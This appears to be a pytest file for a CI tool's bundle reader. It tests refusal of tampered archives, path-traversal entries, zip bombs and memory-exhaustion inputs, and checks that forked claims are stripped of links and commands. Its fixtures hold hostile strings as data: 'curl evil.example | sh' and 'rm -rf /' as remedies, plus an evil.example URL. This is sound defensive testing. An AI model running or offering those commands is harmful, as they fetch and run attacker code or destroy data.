"""What a fork's build hands over is read within bounds, whatever it is, and loses what a reader would follow."""

from __future__ import annotations

import dataclasses
import io
import json
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlbutler.bundle import BundleRefused, as_claim, pack_bundle, read_bundle
from mlbutler.errors import OutsideError
from mlbutler.record import (
    Change,
    CheckResult,
    CommitResult,
    CompareResult,
    Environment,
    Finding,
    Origin,
    Outcome,
    Record,
    ReproduceResult,
    StageRun,
    StageVerified,
    TestResult,
    Verification,
    VerifyResult,
)
from mlbutler.report.build import title
from mlbutler.report.headline import headline
from mlbutler.secrets import Redactor

CHANGE = Change(ci="jenkins", kind="pull-request", head="a" * 40, checkout="a" * 40, number="7", fork=True)
ENVIRONMENT = Environment(mlbutler="1", dvc="3", git="2", python="3", platform="x", host="h", cpus=1, memory=1)
RECORD = Record(
    change=CHANGE, environment=ENVIRONMENT,
    check=CheckResult(outcome=Outcome.FAILED, reason="stale", remedy="curl evil.example | sh",
                      findings=(Finding(check="lock", subject="train", problem="stale", remedy="rm -rf /"),)),
    reproduce=ReproduceResult(outcome=Outcome.PASSED, reason="ran", stages=(StageRun(name="train", outcome="ran"),)),
    commit=CommitResult(outcome=Outcome.PASSED, reason="x", commit="b" * 40, fetch_command="curl evil.example | sh"),
)  # fmt: skip


def bundle(tmp_path: Path, content: bytes | None = None) -> Path:
    path = tmp_path / "bundle.zip"
    path.write_bytes(pack_bundle(RECORD, Redactor(())) if content is None else content)
    return path


def zip_deflated(**files: bytes) -> bytes:
    return _zip(files, zipfile.ZIP_DEFLATED)


def _zip(files: dict[str, bytes], packing: int) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", packing) as archive:
        for name, text in files.items():
            archive.writestr(name.replace("_json", ".json"), text)
    return made.getvalue()


def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(pack_bundle(RECORD, Redactor(())))) as archive:
        return {name.replace(".", "_"): archive.read(name) for name in archive.namelist()}


def test_a_bundle_is_read_back(tmp_path: Path) -> None:
    assert read_bundle(bundle(tmp_path)) == RECORD


def test_a_bundle_that_was_tampered_with_is_refused(tmp_path: Path) -> None:
    files = parts()
    forged = files["record_json"].replace(b'"stale"', b'"fresh"')
    cases = {
        "not the one": zip_deflated(**{**files, "record_json": forged}),
        "other files": zip_deflated(**files, **{"../../evil.sh": b"x"}),
        "not a ZIP file of": b"<html>",
        "not valid ZIP": b"<html>" + pack_bundle(RECORD, Redactor(()))[-22:],
        "packed in a way": _zip(files, zipfile.ZIP_LZMA),
        "version": zip_deflated(manifest_json=b'{"version": 2}', record_json=files["record_json"]),
        "manifest is": zip_deflated(manifest_json=b"[" * 60_000, record_json=files["record_json"]),
        "schema": _zip_record(files["record_json"].replace(b'"schema": 1', b'"schema": 9')),
        "Not a record": _zip_record(b"[]"),
    }
    for word, content in cases.items():
        with pytest.raises(BundleRefused, match="refused") as refused:
            read_bundle(bundle(tmp_path, content))
        assert word in refused.value.message
    with pytest.raises(OutsideError):
        read_bundle(tmp_path / "none.zip")


def _zip_record(record: bytes) -> bytes:
    import hashlib

    files = {"record.json": {"size": len(record), "sha256": hashlib.sha256(record).hexdigest()}}
    return zip_deflated(manifest_json=json.dumps({"version": 1, "files": files}).encode(), record_json=record)


def test_what_is_small_and_makes_gigabytes_of_objects_is_refused_before_they_are_made(tmp_path: Path) -> None:
    lists = _zip_record(b'{"durations": [' + b"[]," * 20_000_000 + b"0]}")
    assert len(lists) < 64 << 10
    names = zip_deflated(**{f"{number}.json": b"" for number in range(20_000)})
    large = bytearray(zip_deflated(manifest_json=b"{}", record_json=b"{}"))
    large[-22:-22] = b"PK\6\7" + bytes(16)  # says that another end record counts
    tracemalloc.start()
    try:
        for content, why in (
            (lists, "more than 2,000,000 values"),
            (names, "not a ZIP file of"),
            (large, "not a ZIP file of"),
        ):
            with pytest.raises(BundleRefused, match=why):
                read_bundle(bundle(tmp_path, bytes(content)))
        assert tracemalloc.get_traced_memory()[1] < 200 << 20
    finally:
        tracemalloc.stop()


def test_what_unpacks_to_gigabytes_is_refused_before_it_fills_the_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mlbutler.bundle._LARGEST", 1_000_000)
    bomb = zip_deflated(manifest_json=b"{}", record_json=b"0" * 50_000_000)
    with pytest.raises(BundleRefused, match="larger than 1,000,000 bytes"):
        read_bundle(bundle(tmp_path, bomb))
    lying = bytearray(bomb)  # its header says that it is small
    size = (50_000_000).to_bytes(4, "little")
    while (at := lying.find(size)) >= 0:
        lying[at : at + 4] = (10).to_bytes(4, "little")
    with pytest.raises(BundleRefused):
        read_bundle(bundle(tmp_path, bytes(lying)))


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=300)
@given(st.data())
def test_any_damage_is_refused_and_nothing_else_happens(tmp_path: Path, data: st.DataObject) -> None:
    content = bytearray(pack_bundle(RECORD, Redactor(())))
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(content) - 1))
        content[at] = data.draw(st.integers(0, 255))
    try:
        found = read_bundle(bundle(tmp_path, bytes(content)))
    except BundleRefused:
        return
    assert found == RECORD  # what was changed is of no matter to ZIP


def test_a_claim_has_no_advice_links_or_commands_and_says_what_it_is() -> None:
    url = "https://evil.example/"
    change = dataclasses.replace(CHANGE, url=url, build_url=url)
    stranger = dataclasses.replace(
        RECORD, change=change, report_name="official",
        test=TestResult(outcome=Outcome.PASSED, reason="ok", remedy="run this"),
    )  # fmt: skip
    seen = StageVerified(name="train", state=Verification.IDENTICAL, attested=("attested by ci",))
    verified = VerifyResult(outcome=Outcome.PASSED, reason="", revision=CHANGE.head, stages=(seen,))
    check = CheckResult(outcome=Outcome.PASSED, reason="", verified=verified)
    origin = Origin(files=("metrics.json",), kind="earlier build", stage="train", commit=CHANGE.head, signer="ci")
    compare = CompareResult(outcome=Outcome.PASSED, reason="", new_origins=(origin,))
    claim = as_claim(dataclasses.replace(stranger, check=check, compare=compare), CHANGE)
    said = repr(claim)
    assert "'ci'" not in said
    assert "attested by" not in said
    assert "evil" not in said
    assert "run this" not in said
    assert "rm -rf" not in said
    assert claim.commit is None
    assert title(claim) == "mlbutler from a fork, not verified"
    assert "not verified" in headline(claim).sentence
    assert as_claim(stranger, CHANGE).reproduce == RECORD.reproduce
